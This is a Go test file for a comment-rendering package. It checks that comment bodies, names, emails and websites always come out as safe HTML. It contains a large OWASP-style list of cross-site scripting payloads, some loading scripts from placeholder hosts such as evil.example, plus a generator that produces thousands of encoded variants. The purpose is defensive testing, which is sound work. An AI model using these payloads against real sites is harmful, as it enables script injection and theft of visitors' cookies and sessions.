package comments

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

const rel = `rel="nofollow ugc noopener"`

func TestRenderBody(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", ""},
		{"  \n \t\n", ""},
		{"Hello", "<p>Hello</p>\n"},
		{"  Hello  ", "<p>  Hello  </p>\n"},
		{"one\ntwo", "<p>one<br>\ntwo</p>\n"},
		{"one\n\ntwo", "<p>one</p>\n<p>two</p>\n"},
		{"one\r\n\r\n\r\n\r\ntwo\r\nthree", "<p>one</p>\n<p>two<br>\nthree</p>\n"},
		{"one\r\rtwo\rthree", "<p>one</p>\n<p>two<br>\nthree</p>\n"},
		{"\n\none\n \t \ntwo\n\n", "<p>one</p>\n<p>two</p>\n"},
		{`<b>bold</b> & "quoted" 'single'`, "<p>&lt;b&gt;bold&lt;/b&gt; &amp; &#34;quoted&#34; &#39;single&#39;</p>\n"},
		{"&lt;script&gt; &amp;", "<p>&amp;lt;script&amp;gt; &amp;amp;</p>\n"},
		{"nul\x00 esc\x1b bad\xff", "<p>nul\uFFFD esc\uFFFD bad\uFFFD</p>\n"},
		{"see https://example.org/a?b=1&c=2.",
			`<p>see <a href="https://example.org/a?b=1&amp;c=2" ` + rel + `>https://example.org/a?b=1&amp;c=2</a>.</p>` + "\n"},
		{"WWW.Example.org/x, then",
			`<p><a href="https://WWW.Example.org/x" ` + rel + `>WWW.Example.org/x</a>, then</p>` + "\n"},
		{"(https://en.wikipedia.org/wiki/Foo_(bar))",
			`<p>(<a href="https://en.wikipedia.org/wiki/Foo_(bar)" ` + rel + `>https://en.wikipedia.org/wiki/Foo_(bar)</a>)</p>` + "\n"},
		{"https://example.org/it's",
			`<p><a href="https://example.org/it&#39;s" ` + rel + `>https://example.org/it&#39;s</a></p>` + "\n"},
		{"two https://a.example\nlines https://b.example",
			`<p>two <a href="https://a.example" ` + rel + `>https://a.example</a><br>` + "\n" + `lines <a href="https://b.example" ` + rel + `>https://b.example</a></p>` + "\n"},
		{"https://user:pw@evil.example/ stays text", "<p>https://user:pw@evil.example/ stays text</p>\n"},
		{"javascript:alert(1)", "<p>javascript:alert(1)</p>\n"},
		{"cheap-pills.com is not linked", "<p>cheap-pills.com is not linked</p>\n"},
	}
	for _, c := range cases {
		if got := string(RenderBody(c.in)); got != c.want {
			t.Errorf("RenderBody(%q) =\n%s\nwant\n%s", c.in, got, c.want)
		}
		assertSafeBody(t, c.in, string(RenderBody(c.in)))
	}
}

// assertSafeBody parses out as a browser would, inside a <div>, and
// checks that it holds only p, br and a elements, that every a has the
// rel and an http or https href with a host and nothing else, and that the
// words shown are the words of in.
func assertSafeBody(t testing.TB, in, out string) {
	t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
	if err != nil {
		t.Fatalf("RenderBody(%q): output does not parse: %v", in, err)
	}
	var text strings.Builder
	var walk func(n *html.Node, inLink bool)
	walk = func(n *html.Node, inLink bool) {
		switch n.Type {
		case html.TextNode:
			text.WriteString(n.Data)
		case html.ElementNode:
			switch n.DataAtom {
			case atom.P, atom.Br:
				if len(n.Attr) != 0 {
					t.Fatalf("RenderBody(%q): <%s> with attributes %v in %s", in, n.Data, n.Attr, out)
				}
				text.WriteString(" ")
			case atom.A:
				if inLink {
					t.Fatalf("RenderBody(%q): nested link in %s", in, out)
				}
				inLink = true
				checkLinkAttrs(t, in, out, n.Attr)
			default:
				t.Fatalf("RenderBody(%q): element <%s> in %s", in, n.Data, out)
			}
		default:
			t.Fatalf("RenderBody(%q): node of type %d (%q) in %s", in, n.Type, n.Data, out)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, inLink)
		}
	}
	for _, n := range nodes {
		walk(n, false)
	}
	if got, want := strings.Fields(text.String()), strings.Fields(shownText(in)); strings.Join(got, " ") != strings.Join(want, " ") {
		t.Fatalf("RenderBody(%q): shows %q, want %q", in, got, want)
	}
}

func checkLinkAttrs(t testing.TB, in, out string, attrs []html.Attribute) {
	t.Helper()
	if len(attrs) != 2 {
		t.Fatalf("RenderBody(%q): link attributes %v in %s", in, attrs, out)
	}
	var href string
	for _, a := range attrs {
		switch {
		case a.Namespace == "" && a.Key == "href":
			href = a.Val
		case a.Namespace == "" && a.Key == "rel" && a.Val == LinkRel:
		default:
			t.Fatalf("RenderBody(%q): link attribute %s=%q in %s", in, a.Key, a.Val, out)
		}
	}
	u, err := url.Parse(href)
	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" || u.User != nil || u.Opaque != "" {
		t.Fatalf("RenderBody(%q): href %q in %s", in, href, out)
	}
	if strings.ContainsFunc(href, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) }) {
		t.Fatalf("RenderBody(%q): href %q holds white space", in, href)
	}
}

// shownText is the text RenderBody must show for in: invalid UTF-8 and
// controls other than line breaks and tabs replaced.
func shownText(in string) string {
	in = strings.ReplaceAll(in, "\r", "\n")
	in = strings.ToValidUTF8(in, "\uFFFD")
	return strings.Map(func(r rune) rune {
		if unicode.IsControl(r) && r != '\n' && r != '\t' {
			return '\uFFFD'
		}
		return r
	}, in)
}

// xssVectors are filter-evasion shapes in the style of OWASP's cheat
// sheet. In a comment body none may become markup.
var xssVectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
	`<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	`<IMG SRC="jav	ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	"<IMG SRC=java\x00script:alert(\"XSS\")>",
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
	`<IMG SRC="` + "`" + `javascript:alert('XSS')"`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<svg/onload=alert('XSS')>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
	`<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<details open ontoggle=alert(1)>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="&#106;avascript:alert(1)">click</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html><script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(1)`,
	`java&#09;script:alert(1)`,
	`&#x6A;avascript:alert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`https://example.org/"><script>alert(1)</script>`,
	`https://example.org/" onmouseover="alert(1)`,
	`https://example.org/' onmouseover='alert(1)`,
	`https://example.org/"onmouseover="alert(1)"`,
	`https://example.org/'onmouseover='alert(1)'`,
	`https://example.org/<img/src=x/onerror=alert(1)>`,
	`www.example.org/"><img src=x onerror=alert(1)>`,
	`https://example.org/&quot;onmouseover=&quot;alert(1)`,
	`https://example.org/&#34;onmouseover=alert(1)`,
	`https://javascript:alert(1)@example.org/`,
	`https://example.org/#javascript:alert(1)`,
	`http://example.org/?q=<script>alert(1)</script>`,
	"https://example.org/\u0000javascript:alert(1)",
	"https://example.org/\u2028<script>",
	`＜script＞alert(1)＜/script＞`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<a href="https://example.org" onclick="alert(1)">https://example.org</a>`,
	"<a\nhref=javascript:alert(1)>x</a>",
	"<\x00script>alert(1)</script>",
	`<p onclick="alert(1)">https://example.org</p>`,
	`</p><script>alert(1)</script><p>`,
	`<br onload=alert(1)>`,
	`<a href=https://example.org rel=opener>x</a>`,
}

// generatedVectors are variants of tags, handlers, payloads, cases and
// encodings.
func generatedVectors() []string {
	tags := []string{"script", "img", "svg", "iframe", "body", "a", "div", "math", "video", "audio", "input", "details", "marquee", "object", "p", "br"}
	handlers := []string{"onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"}
	payloads := []string{"alert(1)", "alert`1`", "javascript:alert(1)", "&#97;lert(1)", "eval(atob('YWxlcnQoMSk='))"}
	cases := []func(string) string{strings.ToLower, strings.ToUpper, func(s string) string {
		var b strings.Builder
		for i, r := range s {
			if i%2 == 0 {
				b.WriteRune(unicode.ToUpper(r))
			} else {
				b.WriteRune(r)
			}
		}
		return b.String()
	}}
	encodeLT := []func(string) string{
		func(s string) string { return s },
		func(s string) string { return strings.ReplaceAll(s, "<", "&lt;") },
		func(s string) string { return strings.ReplaceAll(s, "<", "&#60;") },
		func(s string) string { return strings.ReplaceAll(s, "<", "&#x3C;") },
		func(s string) string { return strings.ReplaceAll(s, "<", "%3C") },
		func(s string) string { return "https://example.org/" + s },
		func(s string) string { return "www.example.org/?a=" + s },
	}
	var out []string
	for _, tag := range tags {
		for _, h := range handlers {
			for _, p := range payloads {
				for _, shape := range []string{"<%s %s=%s>", "<%s src=x %s=\"%s\">", "\"><%s/%s='%s'>", "<%s\n%s=%s//"} {
					base := fmt.Sprintf(shape, tag, h, p)
					for _, c := range cases {
						for _, e := range encodeLT {
							out = append(out, e(c(base)))
						}
					}
				}
			}
		}
	}
	for _, scheme := range []string{"javascript", "JAVASCRIPT", "JaVaScRiPt", "java\tscript", "java\nscript", "jav&#x61;script", "vbscript", "data"} {
		for _, wrap := range []string{"%s:alert(1)", "<a href=\"%s:alert(1)\">x</a>", "https://example.org/?r=%s:alert(1)", "[x](%s:alert(1))"} {
			out = append(out, fmt.Sprintf(wrap, scheme))
		}
	}
	return out
}

func TestRenderBodyXSS(t *testing.T) {
	for _, v := range xssVectors {
		for _, in := range []string{v, "Nice article!\n\n" + v + "\nthanks", "https://example.org/" + v, v + " https://example.org/", "www.example.org/" + v} {
			assertSafeBody(t, in, string(RenderBody(in)))
		}
	}
	generated := generatedVectors()
	if len(generated) < 5000 {
		t.Fatalf("only %d generated vectors", len(generated))
	}
	for _, v := range generated {
		assertSafeBody(t, v, string(RenderBody(v)))
	}
}

// TestXSSVectorsInEveryField sends the vectors through the other fields:
// the website is refused unless it is a plain http(s) address, and the
// name, shown through Avatar, stays text.
func TestXSSVectorsInEveryField(t *testing.T) {
	vectors := append(append([]string{}, xssVectors...), generatedVectors()...)
	for _, v := range vectors {
		f := validForm()
		f.Website = v
		if Validate(f, DefaultLimits)[FieldURL] == "" {
			u, err := url.Parse(v)
			if err != nil || (u.Scheme != "http" && u.Scheme != "https") || strings.ContainsAny(v, `<>"`) {
				t.Errorf("website %q accepted", v)
			}
		}
		f = validForm()
		f.Name = v
		assertSafeAvatar(t, v, string(Avatar(v)))
		f.Email = v
		if Validate(f, DefaultLimits)[FieldEmail] == "" {
			t.Errorf("email %q accepted", v)
		}
	}
}

// assertSafeAvatar parses an avatar and checks it is one svg holding one
// circle and one text, with only the attributes Avatar writes, the name
// only in aria-label and the initials only as text.
func assertSafeAvatar(t testing.TB, name, out string) {
	t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
	if err != nil || len(nodes) != 1 {
		t.Fatalf("Avatar(%q) = %s: %d nodes, %v", name, out, len(nodes), err)
	}
	allowed := map[string]map[string]bool{
		"svg":    {"class": true, "xmlns": true, "width": true, "height": true, "viewbox": true, "role": true, "aria-label": true},
		"circle": {"cx": true, "cy": true, "r": true, "fill": true},
		"text":   {"x": true, "y": true, "dy": true, "text-anchor": true, "font-family": true, "font-size": true, "font-weight": true, "fill": true, "aria-hidden": true},
	}
	count := map[string]int{}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			attrs, ok := allowed[n.Data]
			if !ok || n.Namespace != "svg" {
				t.Fatalf("Avatar(%q): element %s:%s in %s", name, n.Namespace, n.Data, out)
			}
			count[n.Data]++
			for _, a := range n.Attr {
				if !attrs[strings.ToLower(a.Key)] {
					t.Fatalf("Avatar(%q): attribute %s=%q in %s", name, a.Key, a.Val, out)
				}
				if a.Key == "aria-label" && a.Val != "Avatar" && a.Val != "Avatar of "+strings.TrimSpace(cleanText(name)) {
					t.Fatalf("Avatar(%q): aria-label %q", name, a.Val)
				}
			}
		case html.TextNode:
			if n.Parent == nil || n.Parent.Data != "text" || n.Data != Initials(strings.TrimSpace(cleanText(name))) {
				t.Fatalf("Avatar(%q): text %q in %s", name, n.Data, out)
			}
		default:
			t.Fatalf("Avatar(%q): node %d in %s", name, n.Type, out)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(nodes[0])
	if count["svg"] != 1 || count["circle"] != 1 || count["text"] != 1 {
		t.Fatalf("Avatar(%q): elements %v", name, count)
	}
}

func TestAvatar(t *testing.T) {
	a := string(Avatar("Ada Lovelace"))
	for _, want := range []string{`role="img"`, `aria-label="Avatar of Ada Lovelace"`, `>AL</text>`, `<svg class="avatar"`, `viewBox="0 0 40 40"`} {
		if !strings.Contains(a, want) {
			t.Errorf("Avatar lacks %s: %s", want, a)
		}
	}
	if a != string(Avatar("Ada Lovelace")) {
		t.Error("Avatar is not deterministic")
	}
	if !strings.Contains(string(Avatar("")), `aria-label="Avatar"`) || !strings.Contains(string(Avatar("")), ">?</text>") {
		t.Errorf("empty name: %s", Avatar(""))
	}
	hostile := `"><svg onload=alert(1)> <script>x</script> & 'q'`
	h := string(Avatar(hostile))
	assertSafeAvatar(t, hostile, h)
	if strings.Contains(h, "<script") || strings.Contains(h, "<svg onload") {
		t.Errorf("hostile name leaked markup: %s", h)
	}
	// Colors spread over names.
	fills := map[string]bool{}
	for i := 0; i < 60; i++ {
		s := string(Avatar(fmt.Sprintf("Reader %d", i)))
		j := strings.Index(s, `fill="#`)
		fills[s[j:j+14]] = true
	}
	if len(fills) < 30 {
		t.Errorf("60 names got only %d colors", len(fills))
	}
}

func TestAvatarContrast(t *testing.T) {
	for hue := 0; hue < 360; hue++ {
		c := avatarColor(float64(hue))
		var r, g, b uint8
		if _, err := fmt.Sscanf(c, "#%02x%02x%02x", &r, &g, &b); err != nil {
			t.Fatalf("hue %d: color %q: %v", hue, c, err)
		}
		if ratio := contrastWithWhite(r, g, b); ratio < 4.5 {
			t.Errorf("hue %d: %s has contrast %.2f with white", hue, c, ratio)
		}
	}
	// Known values of the formula: black and white.
	if r := contrastWithWhite(0, 0, 0); r < 20.9 || r > 21.1 {
		t.Errorf("contrast of black = %.2f, want 21", r)
	}
	if r := contrastWithWhite(255, 255, 255); r != 1 {
		t.Errorf("contrast of white = %.2f, want 1", r)
	}
}

func TestInitials(t *testing.T) {
	for in, want := range map[string]string{
		"Ada Lovelace":              "AL",
		"plato":                     "P",
		"":                          "?",
		"  ":                        "?",
		"!!!":                       "?",
		"Jean-Luc Picard":           "JP",
		"émile zola":                "ÉZ",
		"e\u0301mile zola":          "E\u0301Z",
		"李小龙":                       "李",
		"123 go":                    "1G",
		"<script>alert(1)</script>": "SS",
		"😀 smile":                   "S",
		"Ada  ":                     "A",
	} {
		if got := Initials(in); got != want {
			t.Errorf("Initials(%q) = %q, want %q", in, got, want)
		}
	}
}
